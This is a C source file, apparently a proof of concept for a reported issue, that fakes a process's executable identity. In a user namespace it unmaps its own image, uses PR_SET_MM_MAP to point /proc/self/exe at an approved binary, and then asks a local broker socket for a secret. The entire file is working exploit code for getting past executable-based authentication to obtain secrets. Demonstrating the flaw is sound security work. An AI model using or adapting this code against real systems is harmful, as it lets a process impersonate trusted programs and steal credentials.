/* exe masquerade (issue 8, item 1): in a new user namespace, unmap our own image and point
 * /proc/self/exe at an approved binary with PR_SET_MM_MAP, then ask the broker for a secret.
 * All code runs from this shared library (bound at load, -z now), so the image can go. */
#define _GNU_SOURCE
#include <sched.h>
#include <sys/prctl.h>
#include <linux/prctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/un.h>

static void die(const char *m) { dprintf(2, "masq: %s: %m\n", m); _exit(3); }

int masq_run(const char *sock, const char *approved, const char *req) {
    char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) die("readlink self"); self[n] = 0;
    int exe_fd = open(approved, O_RDONLY);
    if (exe_fd < 0) die("open approved");
    if (unshare(CLONE_NEWUSER) != 0) die("unshare");
    FILE *m = fopen("/proc/self/maps", "r"); if (!m) die("maps");
    unsigned long starts[64], ends[64]; int k = 0; char line[8192];
    while (fgets(line, sizeof line, m) && k < 64) {
        unsigned long a, b; char path[4096] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, path) >= 2 && strcmp(path, self) == 0) { starts[k] = a; ends[k] = b; k++; }
    }
    fclose(m);
    unsigned long f[64] = {0};
    FILE *st = fopen("/proc/self/stat", "r"); if (!st) die("stat");
    char buf[4096]; size_t r = fread(buf, 1, sizeof buf - 1, st); buf[r] = 0; fclose(st);
    char *p = strrchr(buf, ')') + 4; int idx = 4; /* skip ") S " */
    while (p && *p && idx < 60) { f[idx++] = strtoul(p, &p, 10); while (*p == ' ') p++; }
    for (int i = 0; i < k; i++) munmap((void *)starts[i], ends[i] - starts[i]);
    struct prctl_mm_map map = {
        .start_code = f[26], .end_code = f[27], .start_data = f[45], .end_data = f[46],
        .start_brk = f[47], .brk = (unsigned long)syscall(SYS_brk, 0), .start_stack = f[28],
        .arg_start = f[48], .arg_end = f[49], .env_start = f[50], .env_end = f[51],
        .auxv = NULL, .auxv_size = 0, .exe_fd = (unsigned)exe_fd };
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&map, sizeof map, 0) != 0) die("prctl PR_SET_MM_MAP");
    n = readlink("/proc/self/exe", self, sizeof self - 1); self[n > 0 ? n : 0] = 0;
    dprintf(2, "masq: /proc/self/exe now %s\n", self);
    int s = socket(AF_UNIX, SOCK_STREAM, 0); struct sockaddr_un a = { .sun_family = AF_UNIX };
    strncpy(a.sun_path, sock, sizeof a.sun_path - 1);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) die("connect");
    dprintf(s, "%s\n", req);
    char resp[65536]; size_t got = 0; ssize_t c;
    while (got < sizeof resp - 1 && (c = read(s, resp + got, sizeof resp - 1 - got)) > 0) { got += c; if (memchr(resp, '\n', got)) break; }
    write(1, resp, got);
    _exit(0);
}
